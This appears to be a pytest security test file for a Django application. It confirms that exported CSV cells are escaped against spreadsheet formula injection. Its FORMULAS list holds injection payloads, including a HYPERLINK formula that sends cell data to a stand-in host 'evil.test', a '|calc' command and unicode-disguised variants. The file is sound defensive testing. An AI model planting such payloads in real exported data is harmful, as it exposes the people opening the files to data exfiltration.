"""Attack 45: what somebody typed is not run as a formula by whoever opens an export."""

import csv
from io import StringIO
from pathlib import Path

import pytest
from django.test import Client

from accounts.models import User
from core.spreadsheet import plain
from tests.accounts.people import sign_in

pytestmark = [pytest.mark.db, pytest.mark.attack]

FORMULAS = (
    "=HYPERLINK(\"//evil.test/?\"&A1)", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1",
    " =1", "\u00a0+1", "\u200b=1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff20x", "|calc", "%0A=1",
)  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    assert plain(text) == f"'{text}"


@pytest.mark.parametrize("cell", [None, 5, -5, 0.5, "Айгерим", "a=b", "2026-01-01", ""])
def test_everything_else_stays_as_it_is(cell: object) -> None:
    assert plain(cell) == cell


def test_one_module_alone_writes_tables(project_root: Path) -> None:
    apps = ("audit", "accounts", "cases", "core", "demo", "justice", "nrm_actors", "referrals")
    writers = [
        path.relative_to(project_root).as_posix()
        for app in (*apps, "reporting", "vault", "config")
        for path in (project_root / app).rglob("*.py")
        if any(word in path.read_text() for word in ("import csv", "from csv", "openpyxl", "xlwt"))
    ]
    assert writers == ["core/spreadsheet.py"]


@pytest.mark.parametrize("name", FORMULAS[:4])
def test_a_hostile_name_in_the_log_of_the_organisation(elena: User, amina: User, name: str) -> None:
    User.objects.filter(pk=amina.pk).update(display_name=name)
    client = Client()
    sign_in(Client(), amina)
    sign_in(client, elena)
    answer = client.get("/security/log/export/")
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"].startswith("attachment")
    rows = list(csv.reader(StringIO(answer.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert f"'{name}" in cells, "it is there"
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
